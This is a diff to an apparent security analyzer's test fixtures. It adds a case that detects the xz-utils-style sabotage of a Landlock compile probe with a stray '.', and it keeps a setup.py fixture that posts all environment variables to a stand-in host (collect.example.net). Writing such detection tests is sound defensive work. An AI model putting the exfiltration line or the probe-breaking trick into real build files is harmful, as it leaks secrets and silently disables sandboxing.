@@ -61,7 +61,7 @@ const documentedWorkflowIds = [
   // test/analyzers/check-gitattributes.test.ts
   'gitattributes-hides-change',
   // test/ecosystems/automation/automation.test.ts
-  'repo-settings-weakened',
+  'repo-settings-weakened', 'meson-wrap-source-changed',
 ];
 
 /** The online workflow audits: their cases are in test/ecosystems/github-actions/online-action-rules.test.ts. */
@@ -125,6 +125,25 @@ const CASES: Case[] = [
     id: 'build-code-behavior',
     positive: () => snapshotOf(makeFile('setup.py', { status: 'added', patch: '@@ -0,0 +1,2 @@\n+import os, requests\n+requests.post("https://collect.example.net/", json=dict(os.environ))' })),
     negative: () => snapshotOf(makeFile('setup.py', { status: 'added', patch: '@@ -0,0 +1,2 @@\n+import os\n+os.environ.setdefault("CFLAGS", "-O2")' })),
+  },
+  {
+    id: 'security-probe-broken',
+    // The xz-utils Landlock check of 2024: one '.' in CMakeLists.txt's test program.
+    positive: () =>
+      snapshotOf(
+        makeFile('CMakeLists.txt', {
+          patch: '@@ -5,6 +5,7 @@ check_c_source_compiles("\n     #include <linux/landlock.h>\n     #include <sys/syscall.h>\n     #include <sys/prctl.h>\n+.\n     void my_sandbox(void)\n     {\n         (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);',
+        }),
+      ),
+    // A real line added to the same test, a Meson seccomp test whose text closes with ''', and a stray line in a test of no security feature.
+    negative: () =>
+      snapshotOf(
+        makeFile('CMakeLists.txt', {
+          patch: '@@ -5,6 +5,7 @@ check_c_source_compiles("\n     #include <linux/landlock.h>\n     #include <sys/syscall.h>\n     #include <sys/prctl.h>\n+    #include <linux/types.h>\n     void my_sandbox(void)\n     {\n         (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);',
+        }),
+        makeFile('meson.build', { status: 'added', patch: "@@ -0,0 +1,4 @@\n+have_seccomp = cc.links('''\n+#include <seccomp.h>\n+int main(void) { return seccomp_init(0) == 0; }\n+''', dependencies: seccomp_dep)" }),
+        makeFile('cmake/Checks.cmake', { patch: '@@ -1,3 +1,4 @@\n check_c_source_compiles("\n #include <string.h>\n+.\n int main(void) { char b[4]; return strlcpy(b, \\"x\\", 4) > 0 ? 0 : 1; }" HAVE_STRLCPY)' }),
+      ),
   },
   {
     id: 'build-wrapper-changed',
